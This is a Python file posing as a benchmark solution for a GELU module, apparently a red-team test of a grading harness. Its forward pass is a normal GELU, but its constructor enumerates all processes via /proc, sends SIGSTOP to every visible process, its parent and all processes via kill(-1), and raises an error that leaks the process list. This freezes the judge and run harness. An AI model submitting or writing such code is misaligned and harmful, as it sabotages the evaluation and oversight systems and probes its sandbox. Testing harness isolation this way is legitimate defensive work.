# target: problems/level1/07_gelu.py | device: any
# SIGSTOPs its parent and every other process it can see (freezing the judge or kswarm would hang the run), and reports what it saw.
import os
import signal

import torch.nn as nn
import torch.nn.functional as F


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        me, seen = os.getpid(), []
        for p in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
            try:
                with open(f"/proc/{p}/cmdline", "rb") as f:
                    cmd = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
            except OSError:
                cmd = "?"
            seen.append(f"{p}:{cmd}")
            if p != me:
                try:
                    os.kill(p, signal.SIGSTOP)
                except OSError:
                    pass
        try:
            os.kill(os.getppid(), signal.SIGSTOP)
            os.kill(-1, signal.SIGSTOP)
        except OSError:
            pass
        raise RuntimeError("REDTEAM proc_stop_all seen=[" + " | ".join(seen) + "]")

    def forward(self, x):
        return F.gelu(x)
